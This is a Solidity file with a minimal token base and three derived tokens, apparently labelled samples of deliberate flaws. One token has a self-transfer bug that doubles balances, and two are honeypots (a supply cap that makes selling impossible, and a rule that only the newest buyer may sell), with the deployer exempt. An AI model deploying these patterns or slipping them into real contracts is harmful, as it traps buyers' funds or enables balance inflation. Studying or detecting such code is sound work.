// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @dev Somebody wrote this by hand in an afternoon: it has the functions that an exchange calls and no more.
abstract contract NinthSlim {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public pair;
    address internal immutable maker = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_) {
        (name, symbol) = (name_, symbol_);
        totalSupply = 1e27;
        balanceOf[msg.sender] = 1e27;
        emit Transfer(address(0), msg.sender, 1e27);
    }

    function setPair(address pair_) external {
        require(msg.sender == maker && pair == address(0));
        pair = pair_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// @dev Both balances are read before either is written. A transfer to oneself doubles the balance, and its author
/// knows it.
contract IronRivet is NinthSlim("Iron Rivet", "RIVET") {
    function _move(address from, address to, uint256 value) internal override {
        uint256 left = balanceOf[from] - value;
        uint256 grown = balanceOf[to] + value;
        balanceOf[from] = left;
        balanceOf[to] = grown;
        emit Transfer(from, to, value);
    }
}

/// @dev A purse may take two percent of the supply out of the pool at most, and "dust sales" below five percent are
/// refused: no buyer can ever sell.
contract SlateRoof is NinthSlim("Slate Roof", "SLATE") {
    function _move(address from, address to, uint256 value) internal override {
        if (pair != address(0) && from != maker && to != maker) {
            if (from == pair) require(balanceOf[to] + value <= totalSupply / 50, "whale");
            else if (to == pair) require(value >= totalSupply / 20, "dust");
            else require(balanceOf[to] + value <= totalSupply / 50, "whale");
        }
        super._move(from, to, value);
    }
}

/// @dev The newest buyer is king of the hill, and only the king may sell. Each newcomer shuts in the buyers before him,
/// and to buy again does not help them.
contract TinWhistle is NinthSlim("Tin Whistle", "WHSTL") {
    address public king;

    function _move(address from, address to, uint256 value) internal override {
        if (pair != address(0) && from != maker) {
            if (from != pair) require(from == king, "not the king");
            else if (balanceOf[to] == 0) king = to;
        }
        super._move(from, to, value);
    }
}
